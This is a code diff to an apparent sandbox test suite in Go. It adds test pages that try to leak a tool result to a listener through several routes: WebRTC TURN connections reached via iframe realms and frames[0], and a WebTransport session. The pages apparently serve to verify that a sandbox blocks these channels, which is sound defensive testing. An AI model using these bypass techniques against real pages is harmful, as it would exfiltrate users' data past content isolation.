@@ -288,8 +288,10 @@ func turnLeak(ctor string) string {
 // WebRTCLeakPages are pages that send the result to a TURN server at addr
 // (host:port of a UDP listener), keyed by the way they reach WebRTC: an
 // alias of the global, the webkit-prefixed name, a frame's fresh realm
-// made with createElement, and one made from constant markup and reached
-// through frames[0].
+// made with createElement, one made from constant markup and reached
+// through frames[0] or its contentWindow, and one in the page's own markup;
+// and one that opens a WebTransport session (QUIC over
+// UDP) to it.
 func WebRTCLeakPages(addr string) map[string]string {
 	return map[string]string{
 		"alias":  attemptPage("webrtc-alias", "", addr, turnLeak("RTCPeerConnection")),
@@ -297,6 +299,13 @@ func WebRTCLeakPages(addr string) map[string]string {
 		"iframe-realm": attemptPage("webrtc-iframe", "", addr,
 			`const f = document.createElement("iframe"); document.body.appendChild(f);
     `+turnLeak("f.contentWindow.RTCPeerConnection")),
+		"markup-contentwindow": attemptPage("webrtc-markup-cw", "", addr,
+			`const d = document.createElement("div"); d.innerHTML = "<iframe></iframe>"; document.body.appendChild(d);
+    `+turnLeak("d.firstChild.contentWindow.RTCPeerConnection")),
+		"parser-realm": attemptPage("webrtc-parser", "<iframe></iframe>\n", addr, turnLeak("frames[0].RTCPeerConnection")),
+		"webtransport": attemptPage("webtransport", "", addr,
+			`const t = new WebTransport("https://" + SINK + "/?d=" + encodeURIComponent(JSON.stringify(result.structuredContent)));
+    t.ready.catch(() => {});`),
 		"markup-realm": attemptPage("webrtc-markup", "", addr,
 			`const d = document.createElement("div"); d.innerHTML = "<iframe></iframe>"; document.body.appendChild(d);
     `+turnLeak("frames[0].RTCPeerConnection")),
